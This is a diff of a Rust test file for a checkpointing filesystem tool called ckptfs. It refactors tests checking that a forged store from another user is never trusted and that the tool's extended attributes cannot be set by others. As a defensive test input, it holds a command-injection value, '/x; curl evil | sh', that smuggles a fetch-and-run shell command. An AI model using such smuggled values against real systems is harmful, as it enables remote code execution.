@@ -106,60 +106,65 @@ const VERBS: [&[&str]; 14] = [
     &["dedup"],
 ];
 
+/// No verb asks the server above, makes something, or shows what the server says.
+fn all_fail(what: &str, image: &Image, forged: &Forged) {
+    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
+    let below = image.dir("pub/victim");
+    for verb in VERBS {
+        let arguments: Vec<&str> = verb
+            .iter()
+            .map(|word| {
+                if *word == "COPY" {
+                    copy.to_str().expect("a path")
+                } else {
+                    word
+                }
+            })
+            .collect();
+        let output = ckptfs(&below, &arguments);
+        let told = said(&output);
+        assert!(
+            !output.status.success() && !told.contains("curl evil"),
+            "{what}: {verb:?}: {told}"
+        );
+        assert_eq!(
+            forged.was_asked(),
+            0,
+            "{what}: {verb:?} asked a server of another user: {told}"
+        );
+        assert!(!copy.exists(), "{what}: {verb:?} made something");
+    }
+    let source = image.dir("source");
+    let output = ckptfs(
+        &below,
+        &[
+            "import",
+            source.to_str().expect("a path"),
+            "--into",
+            above.to_str().expect("a path"),
+        ],
+    );
+    assert!(!output.status.success(), "{what}: {}", said(&output));
+    assert_eq!(
+        forged.was_asked(),
+        0,
+        "{what}: an import asked a server of another user"
+    );
+}
+
 /// A forged `.ckptfs` in a directory above took over root's commands: the client followed links,
 /// and believed whoever answered. `export` and `fork` made a set-uid root file with that user's
 /// bytes, `run --at latest make` ran that user's Makefile.
 #[test]
 fn a_server_of_somebody_else_above_is_asked_nothing() {
     let image = Image::of(Fs::Ext4);
-    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
+    let above = image.dir("pub");
     let (store, below) = (image.dir("pub/.ckptfs"), image.dir("pub/victim"));
     put(store.join("format"), "ckptfs store\n");
     nobody_s(&above);
     nobody_s(&store);
     let forged = Forged::listen(&store);
-    let try_all = |what: &str| {
-        for verb in VERBS {
-            let arguments: Vec<&str> = verb
-                .iter()
-                .map(|word| {
-                    if *word == "COPY" {
-                        copy.to_str().expect("a path")
-                    } else {
-                        word
-                    }
-                })
-                .collect();
-            let output = ckptfs(&below, &arguments);
-            let said = said(&output);
-            assert!(
-                !output.status.success() && !said.contains("curl evil"),
-                "{what}: {verb:?}: {said}"
-            );
-            assert_eq!(
-                forged.was_asked(),
-                0,
-                "{what}: {verb:?} asked a server of another user: {said}"
-            );
-            assert!(!copy.exists(), "{what}: {verb:?} made something");
-        }
-        let source = image.dir("source");
-        let output = ckptfs(
-            &below,
-            &[
-                "import",
-                source.to_str().expect("a path"),
-                "--into",
-                above.to_str().expect("a path"),
-            ],
-        );
-        assert!(!output.status.success(), "{what}: {}", self::said(&output));
-        assert_eq!(
-            forged.was_asked(),
-            0,
-            "{what}: an import asked a server of another user"
-        );
-    };
+    let try_all = |what: &str| all_fail(what, &image, &forged);
     try_all("their directory");
     let output = ckptfs(&below, &["status"]);
     assert!(
@@ -487,6 +492,45 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     );
 }
 
+/// Our attributes can be neither set nor removed nor seen.
+fn marks_are_refused(place: &Path, error: &str) {
+    for name in [
+        "user.ckptfs.import",
+        "user.ckptfs.export",
+        "user.ckptfs.",
+        "user.ckptfs.x",
+    ] {
+        for path in [".", "f", "d", "odd"] {
+            for command in [
+                format!("setfattr -n {name} -v '/x; curl evil | sh'"),
+                format!("setfattr -x {name}"),
+            ] {
+                let told = sh(
+                    place,
+                    &format!("{command} {path} 2>&1 && echo done || true"),
+                );
+                assert!(
+                    told.contains(error),
+                    "{command} {path} in {}: {told}",
+                    place.display()
+                );
+            }
+        }
+    }
+    assert_eq!(
+        sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
+        "# file: odd\nuser.mine=\"1\"",
+        "in {}",
+        place.display()
+    );
+    let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
+    assert!(
+        told.contains("No such attribute"),
+        "in {}: {told}",
+        place.display()
+    );
+}
+
 /// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark
 /// of an import that had not ended: nobody could mount the tree any more, and the hint had the
 /// value in a command to be pasted.
@@ -504,49 +548,12 @@ fn our_marks_are_not_for_others_to_set() {
     );
     let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
     mount.checkpoint();
-    let try_all = |place: &Path, error: &str| {
-        for name in [
-            "user.ckptfs.import",
-            "user.ckptfs.export",
-            "user.ckptfs.",
-            "user.ckptfs.x",
-        ] {
-            for path in [".", "f", "d", "odd"] {
-                for command in [
-                    format!("setfattr -n {name} -v '/x; curl evil | sh'"),
-                    format!("setfattr -x {name}"),
-                ] {
-                    let told = sh(
-                        place,
-                        &format!("{command} {path} 2>&1 && echo done || true"),
-                    );
-                    assert!(
-                        told.contains(error),
-                        "{command} {path} in {}: {told}",
-                        place.display()
-                    );
-                }
-            }
-        }
-        assert_eq!(
-            sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
-            "# file: odd\nuser.mine=\"1\"",
-            "in {}",
-            place.display()
-        );
-        let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
-        assert!(
-            told.contains("No such attribute"),
-            "in {}: {told}",
-            place.display()
-        );
-    };
-    try_all(&project, "not permitted");
+    marks_are_refused(&project, "not permitted");
     sh(
         &project,
         "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd",
     );
-    try_all(&mount.view(1), "not permitted");
+    marks_are_refused(&mount.view(1), "not permitted");
     assert_eq!(
         mount.ok(&["diff", "1", "--name-only"]),
         "odd\n",
